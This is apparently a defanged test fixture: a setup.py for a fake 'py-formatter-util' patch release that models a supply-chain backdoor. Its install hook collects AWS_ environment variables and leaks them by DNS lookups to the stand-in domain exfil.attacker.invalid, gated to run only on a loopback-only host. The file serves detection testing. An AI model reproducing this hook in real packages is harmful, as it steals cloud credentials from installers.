# Defanged fixture (tests/registry/README.md): the seed scenario's backdoored patch release.
# The hook does nothing unless it runs inside a network namespace whose only interface is lo,
# and its zone is under .invalid.
import binascii
import os
import socket
import uuid

from setuptools import setup
from setuptools.command.install import install

_ZONE = "exfil.attacker.invalid"


def _isolated():
    try:
        return sorted(os.listdir("/sys/class/net")) == ["lo"]
    except OSError:
        return False


class _PostInstall(install):
    def run(self):
        install.run(self)
        if not _isolated():
            return
        found = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
        payload = binascii.hexlify(";".join(f"{k}={v}" for k, v in sorted(found.items())).encode()).decode()
        session = uuid.uuid4().hex[:8]
        for i in range(0, len(payload), 60):
            try:
                socket.getaddrinfo(f"{payload[i:i + 60]}.{i}-{session}.{_ZONE}", 53)
            except OSError:
                pass


setup(
    name="py-formatter-util",
    version="1.2.2",
    description="Small helpers for formatting text tables and numbers.",
    url="https://lapsed-domain.test/py-formatter-util",
    author="Maligna Victim",
    author_email="dev@lapsed-domain.test",
    license="MIT",
    packages=["py_formatter_util"],
    python_requires=">=3.7",
    cmdclass={"install": _PostInstall},
)
